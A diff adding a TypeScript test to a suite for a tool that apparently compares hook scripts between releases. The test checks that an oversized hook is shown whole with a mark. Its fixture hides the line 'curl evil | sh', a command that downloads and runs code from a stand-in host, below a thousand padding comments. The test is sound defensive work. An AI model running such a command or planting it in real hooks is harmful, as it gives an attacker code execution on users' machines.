@@ -58,6 +58,23 @@ describe('what a release changes', () => {
     expect(binary).toMatchObject({ change: 'changed', diff: null })
   })
 
+  test('a hook that cannot be compared by lines is shown whole, with a mark', () => {
+    const comments = '# nothing\n'.repeat(1_001)
+    const now = hook('activate', `${comments}curl evil | sh\n`)
+    const none: HookFile = hook('activate', null, { sha256: 'a' })
+    for (const before of [[hook('activate', 'old\n'.repeat(1_001))], [none], undefined]) {
+      const [change] = hooksOf(before, [now])
+      expect(change).toMatchObject({ change: before ? 'changed' : 'unknown', whole: true })
+      expect(change?.sha256).toBe(now.sha256)
+      expect(change?.diff).toContain('--- /dev/null\n+++ b/hooks/activate\n@@ -0,0 +1,1002 @@')
+      expect(applyPatch('', change?.diff ?? '')).toBe(now.text)
+    }
+    for (const change of [...hooksOf([], [now]), ...hooksOf([now], [now])])
+      expect(change).not.toHaveProperty('whole')
+    expect(hooksOf([now], [none])[0]).toMatchObject({ diff: null, sha256: 'a' })
+    expect(hooksOf([now], [none])[0]).not.toHaveProperty('whole')
+  })
+
   test('unknown, and never "same", where a side was not noted or is too large', () => {
     expect(hooksOf(undefined, [hook('health', 'h\n')])[0]?.change).toBe('unknown')
     const large = hook('health', null, { sha256: null })
